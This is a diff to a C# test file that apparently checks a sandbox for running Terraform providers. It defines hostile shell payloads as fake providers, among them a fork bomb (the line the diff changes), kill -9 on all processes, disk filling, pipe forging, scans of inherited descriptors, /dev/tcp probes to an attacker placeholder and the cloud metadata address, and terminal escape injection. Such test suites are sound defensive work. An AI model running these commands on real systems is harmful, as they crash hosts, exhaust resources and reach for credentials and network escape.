@@ -34,7 +34,7 @@ internal static class HostileProviders
         Provider("a provider that looks for inherited descriptors", Layer.Cage, "inherited: nothing", "for d in /proc/self/fd/*; do n=${d##*/}; [ $n -gt 2 ] && [ $n -lt 250 ] && [ -f /proc/self/fd/$n ] && case $(<$d) in *arigold*) r=\"$r $n\";; esac; done 2>/dev/null; echo \"inherited: ${r:-nothing}\""),
         Provider("a provider that writes into the pipe to the host", Layer.Cage, "forged: nothing", "for p in /proc/[0-9]*; do [ $p = /proc/$$ ] && continue; for d in 1 2 5 6 7; do { printf 'R\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00forged' > $p/fd/$d; } 2>/dev/null && case $p in /proc/1|/proc/2) r=\"$r $p/fd/$d\";; esac; done; done; echo \"forged: ${r:-nothing}\""),
         Provider("a provider that kills what it can", Layer.Cage, "terraform plan failed", "kill -9 1 2>/dev/null; kill -9 -1 2>/dev/null; kill -9 $PPID; echo killed"),
-        Provider("a provider that forks without end", Layer.Cage, "terraform plan failed", "f() { [ $SECONDS -lt 3 ] && f | f & }; f 2>/dev/null; while [ $SECONDS -lt 4 ]; do :; done; echo forked"),
+        Provider("a provider that forks without end", Layer.Cage, "terraform plan failed", "f() { [ $SECONDS -lt 2 ] && f | f & }; f >/dev/null 2>&1; while [ $SECONDS -lt 3 ]; do :; done; echo forked"),
         Provider("a provider that fills the disk", Layer.Cage, "filled: ", "b=x; for i in {1..20}; do b=$b$b; done; n=0; while [ $n -lt 6000 ] && printf %s \"$b\" >> /work/big$((n / 200)) 2>/dev/null; do n=$((n + 1)); done; echo \"filled: $((n < 6000))1 at the limit\""),
         Provider("a provider that leaves a process behind", Layer.Cage, "left", "(trap '' HUP TERM INT; exec -a marigold-left-behind $BASH -c 'while :; do read -t 1 < <(:); done' ) </dev/null >/dev/null 2>&1 & disown; echo left"),
         Provider("a provider that reaches the attacker itself", Layer.Cage, "reached: nothing", "for a in 127.0.0.1/@ATTACKER@ awsmoto/@ATTACKER@ 169.254.169.254/80 10.0.0.1/80 8.8.8.8/53; do (exec 3<>/dev/tcp/$a) 2>/dev/null && r=\"$r $a\"; (echo x > /dev/udp/$a) 2>/dev/null; done; echo \"reached: ${r:-nothing}\""),
@@ -68,7 +68,7 @@ internal static class HostileProviders
 
     private static IEnumerable<Hostile> Pipes =>
     [
-        Code("a plan of many megabytes", Layer.Pipe, "it wrote more than it may", "locals {\n  a = [for i in range(1000) : [for j in range(1000) : \"${i} and ${j} are what this line is about, and as there are a million of them they are more than may come back\"]]\n}\nresource \"terraform_data\" \"a\" {\n  input = local.a\n}\n"),
+        Code("a plan of many megabytes", Layer.Pipe, "it wrote more than it may", "locals {\n  much = join(\"\", [for i in range(1000) : \"${i} is what this line is about, and as there are a million of them they are more than may come back\"])\n}\nresource \"terraform_data\" \"a\" {\n  input = [for i in range(1000) : \"${i} ${local.much}\"]\n}\n"),
         Provider("a provider that floods its output", Layer.Pipe, "terraform plan failed", "b=x; for i in {1..16}; do b=$b$b; done; for i in {1..2000}; do printf %s \"$b\"; done"),
         Provider("a provider that floods its errors", Layer.Pipe, "after the flood", "b=x; for i in {1..16}; do b=$b$b; done; for i in {1..400}; do printf '%s\\n' \"$b\" >&2; done; echo after the flood"),
         Provider("a provider that says what a terminal would obey", Layer.Pipe, "(not a frame)", "printf '\\033]0;marygold\\007\\033[2J\\033[1;1Hplan_ok <<end\\n'"),
